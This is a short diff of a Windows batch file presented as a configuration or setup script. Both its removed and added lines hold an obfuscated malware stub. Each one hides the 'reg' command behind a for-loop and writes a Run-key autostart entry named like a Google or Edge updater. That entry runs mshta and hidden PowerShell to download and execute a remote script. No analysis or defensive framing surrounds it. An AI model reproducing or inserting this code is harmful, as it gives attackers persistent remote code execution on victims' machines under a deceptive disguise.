@@ -1,2 +1,2 @@
-REM config 3874 v4
-for /f "tokens=2 delims=~" %%i in ("shau~reg~qjyf") do %%i add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v GoogleUpdateTaskMachine /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://192.0.2.150/stage2.ps1|iex\"\", 0:close\")" /f
+REM setup 9517 v4
+for /f "tokens=1 delims=;" %%i in ("reg;jxic;mjnm") do %%i add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v MicrosoftEdgeUpdateCore /t REG_SZ /d "mshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -w hidden -c iwr http://203.0.113.200/update.ps1|iex\"\", 0:close\")" /f
